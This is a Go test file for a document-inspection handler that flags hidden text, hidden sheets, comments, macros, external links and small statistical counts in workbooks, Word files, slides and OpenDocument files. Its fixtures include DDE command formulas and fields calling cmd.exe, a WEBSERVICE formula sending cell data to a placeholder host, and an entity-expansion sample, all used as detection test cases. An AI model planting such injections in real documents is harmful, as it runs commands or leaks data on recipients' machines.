package inspect_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"example.org/airlock/handler/inspect"
)

const (
	types    = `<?xml version="1.0"?><Types/>`
	document = `<w:document xmlns:w="w"><w:body>%s</w:body></w:document>`
)

// book makes a workbook of one sheet beside other parts.
func book(t testing.TB, sheets, sheet string, others ...string) []byte {
	return zipped(t, append([]string{"[Content_Types].xml", types, "xl/workbook.xml", `<workbook><sheets>` + sheets + `</sheets></workbook>`, "xl/worksheets/sheet1.xml", sheet,
		"xl/sharedStrings.xml", `<sst><si><t>region</t></si><si><r><t>pati</t></r><r><t>ents</t></r></si><si><t>North &amp; South</t></si><si><t>West</t></si></sst>`}, others...)...)
}

// styles have a plain format, white text, white text on blue, one that shows nothing of
// a number, and white by the theme.
const styles = `<styleSheet><numFmts><numFmt numFmtId="164" formatCode=";;;"/><numFmt numFmtId="165" formatCode="0;;0"/></numFmts>` +
	`<fonts><font><color theme="1"/></font><font><color rgb="FFFFFFFF"/></font><font><color theme="0"/></font></fonts>` +
	`<fills><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="solid"><fgColor rgb="FF0000FF"/></patternFill></fill></fills>` +
	`<cellStyleXfs><xf fontId="1" fillId="0"/></cellStyleXfs>` +
	`<cellXfs><xf numFmtId="165" fontId="0" fillId="0"/><xf fontId="1" fillId="0"/><xf fontId="1" fillId="1"/><xf numFmtId="164" fontId="0" fillId="0"/><xf fontId="2" fillId="0"/></cellXfs></styleSheet>`

const shownSheet = `<sheet name="a" sheetId="1"/>`

// counts is a sheet of shared texts and numbers.
const countSheet = `<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>` +
	`<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>40</v></c></row><row r="3"><c r="A3" t="s"><v>3</v></c><c r="B3"><v>3</v></c></row></sheetData></worksheet>`

// Whatever nobody can read on the sheet is hidden, however that is brought about.
func TestTextsThatNobodySeesInAWorkbook(t *testing.T) {
	cell := `<worksheet><sheetData><row r="1"><c r="A1" s="0" t="inlineStr"><is><t>words</t></is></c></row></sheetData></worksheet>`
	for name, c := range map[string]struct {
		font, fill string
		hidden     bool
	}{
		"nearly white":       {`<color rgb="FFFEFEFE"/>`, `<patternFill patternType="none"/>`, true},
		"white of old":       {`<color indexed="9"/>`, `<patternFill patternType="none"/>`, true},
		"black of old":       {`<color indexed="8"/>`, `<patternFill patternType="none"/>`, false},
		"light grey":         {`<color rgb="FFBFBFBF"/>`, `<patternFill patternType="none"/>`, false},
		"tiny":               {`<sz val="1"/>`, `<patternFill patternType="none"/>`, true},
		"a footnote":         {`<sz val="6"/>`, `<patternFill patternType="none"/>`, false},
		"one with its fill":  {`<color rgb="FF000000"/>`, `<patternFill patternType="solid"><fgColor rgb="00000000"/></patternFill>`, true},
		"one with its theme": {`<color theme="4"/>`, `<patternFill patternType="solid"><fgColor theme="4"/></patternFill>`, true},
		"a shade of it":      {`<color theme="4"/>`, `<patternFill patternType="solid"><fgColor theme="4" tint="0.8"/></patternFill>`, false},
	} {
		looks := `<styleSheet><fonts><font>` + c.font + `</font></fonts><fills><fill>` + c.fill + `</fill></fills><cellXfs><xf fontId="0" fillId="0"/></cellXfs></styleSheet>`
		require.Equal(t, c.hidden, slices.Contains(sure(report(t, "a.xlsx", book(t, shownSheet, cell, "xl/styles.xml", looks))), "hidden.text"), name)
	}
}

func TestWorkbooksAreLookedInto(t *testing.T) {
	plain := `<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>words</t></is></c></row></sheetData></worksheet>`
	for name, c := range map[string]struct {
		content []byte
		want    []string
	}{
		"plain":            {book(t, shownSheet, plain), []string{}},
		"counts":           {book(t, shownSheet, countSheet), []string{"sdc.small_count 3-4"}},
		"hidden sheet":     {book(t, shownSheet+`<sheet name="b" sheetId="2" state="veryHidden"/>`, plain), []string{"hidden.sheet"}},
		"hidden row":       {book(t, shownSheet, strings.Replace(plain, `<row r="1"`, `<row r="1" hidden="1"`, 1)), []string{"hidden.sheet"}},
		"hidden column":    {book(t, shownSheet, strings.Replace(plain, `<sheetData>`, `<cols><col min="3" max="4" hidden="true"/></cols><sheetData>`, 1)), []string{"hidden.sheet"}},
		"flat row":         {book(t, shownSheet, strings.Replace(plain, `<row r="1"`, `<row r="1" ht="0.1" customHeight="1"`, 1)), []string{"hidden.sheet"}},
		"narrow column":    {book(t, shownSheet, strings.Replace(plain, `<sheetData>`, `<cols><col min="3" max="4" width="0.05" customWidth="1"/></cols><sheetData>`, 1)), []string{"hidden.sheet"}},
		"low row":          {book(t, shownSheet, strings.Replace(plain, `<row r="1"`, `<row r="1" ht="6" customHeight="1"`, 1)), []string{}},
		"white text":       {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="1" `, 1), "xl/styles.xml", styles), []string{"hidden.text"}},
		"white on blue":    {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="2" `, 1), "xl/styles.xml", styles), []string{}},
		"format of a void": {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="3" `, 1), "xl/styles.xml", styles), []string{"hidden.text"}},
		"black text":       {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="0" `, 1), "xl/styles.xml", styles), []string{}},
		"theme's white":    {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="4" `, 1), "xl/styles.xml", styles), []string{"hidden.text"}},
		"exchange in cell": {book(t, shownSheet, strings.Replace(plain, `<is>`, `<f>cmd|'/c calc'!A1</f><is>`, 1)), []string{"active.macro"}},
		"asks the network": {book(t, shownSheet, strings.Replace(plain, `<is>`, `<f>WEBSERVICE("https://x/"&amp;A1)</f><is>`, 1)), []string{"active.formula"}},
		"sum":              {book(t, shownSheet, strings.Replace(plain, `<is>`, `<f>SUM(A1:A3)&amp;"|"&amp;Sheet2!A1</f><is>`, 1)), []string{}},
		"pivot cache":      {book(t, shownSheet, plain, "xl/pivotCache/pivotCacheRecords1.xml", `<pivotCacheRecords><r><n v="3"/></r><r/></pivotCacheRecords>`), []string{"hidden.pivot_cache"}},
		"empty cache":      {book(t, shownSheet, plain, "xl/pivotCache/pivotCacheRecords1.xml", `<pivotCacheRecords count="0"/>`), []string{}},
		"external link":    {book(t, shownSheet, plain, "xl/externalLinks/externalLink1.xml", `<externalLink/>`), []string{"hidden.external_link"}},
		"dynamic exchange": {book(t, shownSheet, plain, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`), []string{"active.macro", "hidden.external_link"}},
		"comments":         {book(t, shownSheet, plain, "xl/comments1.xml", `<comments><commentList><comment ref="A1"><text/></comment></commentList></comments>`), []string{"hidden.comment"}},
		"macro":            {book(t, shownSheet, plain, "xl/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), []string{"active.macro"}},
		"embedded":         {book(t, shownSheet, plain, "xl/embeddings/a.xlsx", string(book(t, shownSheet, countSheet))), []string{"hidden.embedded", "sdc.small_count 3-4"}},
		"data model":       {book(t, shownSheet, plain, "xl/model/item.data", "x"), []string{"hidden.dataset"}},
	} {
		require.Equal(t, c.want, sure(report(t, "a.xlsx", c.content)), name)
	}
	zero := strings.Replace(countSheet, `<c r="B3"><v>3</v>`, `<c r="B3"><v>0</v>`, 1)
	require.Equal(t, "sdc.zero_count", report(t, "a.xlsx", book(t, shownSheet, zero)).Findings[0].Rule)
	r := report(t, "a.xlsx", book(t, shownSheet, countSheet))
	require.Equal(t, "xlsx", r.Type)
	require.Equal(t, inspect.Place{Members: []int{2}, Part: 1, Line: 3, Column: 2}, r.Findings[0].Places[0])
}

func TestDocumentsAreLookedInto(t *testing.T) {
	doc := func(body string, others ...string) []byte {
		return zipped(t, append([]string{"[Content_Types].xml", types, "word/document.xml", fmt.Sprintf(document, body)}, others...)...)
	}
	cell := func(text string) string { return `<w:tc><w:p><w:r><w:t>` + text + `</w:t></w:r></w:p></w:tc>` }
	table := `<w:tbl><w:tr>` + cell("group") + cell("n") + `</w:tr><w:tr>` + cell("a") + cell("40") + `</w:tr><w:tr>` + cell("b") + cell("2") + `</w:tr></w:tbl>`
	external := func(kind string) string {
		return `<Relationships><Relationship Id="a" Type="http://x/` + kind + `" Target="http://elsewhere/a" TargetMode="External"/></Relationships>`
	}
	for name, c := range map[string]struct {
		content []byte
		want    []string
	}{
		"plain":            {doc(`<w:p/>`), []string{}},
		"insertion":        {doc(`<w:ins w:id="1"><w:r/></w:ins>`), []string{"hidden.tracked_change"}},
		"deletion":         {doc(`<w:del w:id="1"><w:r><w:delText>x</w:delText></w:r></w:del>`), []string{"hidden.tracked_change"}},
		"hidden text":      {doc(`<w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r>`), []string{"hidden.text"}},
		"text by a style":  {doc(`<w:p><w:pPr><w:pStyle w:val="b"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>`, "word/styles.xml", `<w:styles><w:style w:styleId="a"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`), []string{"hidden.text"}},
		"style of nobody":  {doc(`<w:p><w:pPr><w:pStyle w:val="b"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>`, "word/styles.xml", `<w:styles><w:style w:styleId="a"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:styleId="b"/></w:styles>`), []string{}},
		"hidden mark":      {doc(`<w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>`), []string{}},
		"hidden field":     {doc(`<w:r><w:rPr><w:vanish/></w:rPr><w:instrText>XE "x"</w:instrText></w:r><w:r><w:t>x</w:t></w:r>`), []string{}},
		"white text":       {doc(`<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>x</w:t></w:r></w:p>`), []string{"hidden.text"}},
		"nearly white":     {doc(`<w:p><w:r><w:rPr><w:color w:val="FEFEFE"/></w:rPr><w:t>x</w:t></w:r></w:p>`), []string{"hidden.text"}},
		"white on blue":    {doc(`<w:p><w:pPr><w:shd w:fill="0000FF"/></w:pPr><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>x</w:t></w:r></w:p>`), []string{}},
		"white in a table": {doc(`<w:tbl><w:tr><w:tc><w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>`), []string{}},
		"after white":      {doc(`<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:r><w:r><w:t>x</w:t></w:r></w:p>`), []string{}},
		"a white mark":     {doc(`<w:p><w:pPr><w:rPr><w:color w:val="FFFFFF"/><w:sz w:val="2"/></w:rPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>`), []string{}},
		"tiny text":        {doc(`<w:p><w:r><w:rPr><w:sz w:val="2"/></w:rPr><w:t>x</w:t></w:r></w:p>`), []string{"hidden.text"}},
		"text not hidden":  {doc(`<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>x</w:t></w:r>`), []string{}},
		"comment":          {doc(``, "word/comments.xml", `<w:comments><w:comment w:id="0"/></w:comments>`), []string{"hidden.comment"}},
		"table":            {doc(table), []string{"sdc.small_count 1-2"}},
		"template":         {doc(``, "word/_rels/settings.xml.rels", external("attachedTemplate")), []string{"active.macro"}},
		"hyperlink":        {doc(``, "word/_rels/document.xml.rels", external("hyperlink")), []string{}},
		"command":          {doc(`<w:r><w:instrText> DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:r>`), []string{"active.macro"}},
		"embedded":         {doc(``, "word/embeddings/a.xlsx", string(book(t, shownSheet, `<worksheet/>`))), []string{"hidden.embedded"}},
		"entities":         {doc(``, "word/styles.xml", `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>`), []string{}},
		"a long attribute": {doc(``, "word/styles.xml", `<x a="`+strings.Repeat("abc", 100_000)+`"/>`), []string{}},
	} {
		require.Equal(t, c.want, sure(report(t, "a.docx", c.content)), name)
	}
}

func TestOpenDocumentsAreLookedInto(t *testing.T) {
	sheet := func(style, body string, others ...string) []byte {
		return zipped(t, append([]string{"mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", `<office:document-content>` + style + `<table:table>` + body + `</table:table></office:document-content>`}, others...)...)
	}
	cell := func(text string) string { return `<table:table-cell><text:p>` + text + `</text:p></table:table-cell>` }
	counts := `<table:table-row>` + cell("region") + cell("n") + `</table:table-row><table:table-row>` + cell("A") + cell("40") + `</table:table-row><table:table-row>` + cell("B") + cell("3") + `</table:table-row>`
	for name, c := range map[string]struct {
		content []byte
		want    []string
	}{
		"plain":        {sheet("", ""), []string{}},
		"counts":       {sheet("", counts), []string{"sdc.small_count 3-4"}},
		"hidden sheet": {sheet(`<style:table-properties table:display="false"/>`, ""), []string{"hidden.sheet"}},
		"hidden row":   {sheet("", `<table:table-row table:visibility="collapse"/>`), []string{"hidden.sheet"}},
		"comment":      {sheet("", `<office:annotation/>`), []string{"hidden.comment"}},
		"macro":        {sheet("", "", "Basic/Standard/Module1.xml", "<x/>"), []string{"active.macro"}},
		"object":       {sheet("", "", "Object 1/content.xml", "<x/>"), []string{"hidden.embedded"}},
	} {
		require.Equal(t, c.want, sure(report(t, "a.ods", c.content)), name)
	}
}

func TestSlidesAreLookedInto(t *testing.T) {
	deck := func(others ...string) []byte {
		return zipped(t, append([]string{"[Content_Types].xml", types, "ppt/presentation.xml", `<p:presentation/>`}, others...)...)
	}
	shape := func(mark, left string) []byte {
		return deck("ppt/slides/slide1.xml", fmt.Sprintf(`<p:sld><p:sp><p:nvSpPr><p:cNvPr id="2" name="x"%s/></p:nvSpPr><p:spPr><a:xfrm><a:off x="%s" y="0"/><a:ext cx="1000" cy="1000"/></a:xfrm></p:spPr><a:t>words</a:t></p:sp></p:sld>`, mark, left))
	}
	for name, c := range map[string]struct {
		content []byte
		want    []string
	}{
		"a shape":          {shape("", "500"), []string{}},
		"over the edge":    {shape("", "-500"), []string{}},
		"beside the slide": {shape("", "-2000"), []string{"hidden.text"}},
		"a hidden shape":   {shape(` hidden="1"`, "500"), []string{"hidden.text"}},
		"plain":            {deck("ppt/slides/slide1.xml", `<p:sld><a:t>words</a:t></p:sld>`), []string{}},
		"hidden slide":     {deck("ppt/slides/slide1.xml", `<p:sld show="0"/>`), []string{"hidden.text"}},
		"notes":            {deck("ppt/notesSlides/notesSlide1.xml", `<p:notes><a:t>Say this.</a:t></p:notes>`), []string{"hidden.comment"}},
		"a slide number":   {deck("ppt/notesSlides/notesSlide1.xml", `<p:notes><a:fld><a:t>1234</a:t></a:fld></p:notes>`), []string{}},
		"a chart's data":   {deck("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", string(book(t, shownSheet, countSheet))), []string{"hidden.embedded", "sdc.small_count 3-4"}},
		"a modern comment": {deck("ppt/comments/comment1.xml", `<p:cmLst><p:cm authorId="0"/></p:cmLst>`), []string{"hidden.comment"}},
	} {
		require.Equal(t, c.want, sure(report(t, "a.pptx", c.content)), name)
	}
}
